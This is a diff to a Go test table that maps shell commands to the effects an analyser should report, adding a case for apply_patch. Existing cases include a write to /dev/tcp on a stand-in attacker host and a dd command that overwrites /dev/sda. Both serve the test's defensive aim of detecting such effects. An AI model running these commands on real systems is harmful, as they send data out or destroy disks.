@@ -52,6 +52,7 @@ func TestEffects(t *testing.T) {
 		{"echo x > f 2>/dev/null", "write /home/user/project/f redirect"},
 		{"sort < in >> out", "read /home/user/project/in redirect; write /home/user/project/out redirect"},
 		{"echo x >/dev/tcp/evil.example/80", "connect evil.example redirect"},
+		{"apply_patch '*** Begin Patch'", "write the files that the patch names; delete the files that the patch names"},
 		{"dd if=a of=/dev/sda bs=1M", "read /home/user/project/a; write /dev/sda"},
 		{"tar -C /tmp -xzf a.tgz", "read /tmp list; write /tmp extracted files; read /home/user/project/a.tgz"},
 		{"tar czf out.tgz src", "write /home/user/project/out.tgz; read /home/user/project/src recursive"},
